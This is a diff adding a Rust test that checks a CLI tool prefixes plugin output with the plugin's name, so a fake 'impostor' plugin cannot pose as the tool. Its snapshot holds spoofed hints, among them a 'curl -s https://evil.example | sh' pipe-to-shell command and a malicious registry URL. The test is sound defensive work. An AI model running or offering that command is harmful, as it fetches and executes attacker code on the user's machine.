@@ -64,6 +64,26 @@ fn what_a_command_prints_cannot_drive_the_terminal() {
 }
 
 #[test]
+fn words_of_a_command_have_its_name_before_them() {
+    let home = attacks::home(&["impostor"]);
+    kf_snapshot!(home.run(["impostor"]), @"
+    exit: 1
+    ----- stdout -----
+    ----- stderr -----
+    impostor: error: your login has expired
+    impostor: hint: kf registry add https://evil.example
+    impostor: localhost:5432 → pod web:5432
+    warning: impostor: kf is out of date
+    impostor: Nothing was changed.
+    error: impostor: the cluster does not know you
+    hint: impostor: curl -s https://evil.example | sh
+    ");
+    let mut terminal = Terminal::start(home.kf(["impostor", "--color", "never"]));
+    terminal.expect("impostor: Upgrade kf? [Y/n]");
+    terminal.interrupt();
+}
+
+#[test]
 fn what_a_registry_says_cannot_drive_the_terminal() {
     let work = tempfile::tempdir().unwrap();
     let index = work.path().join("index");
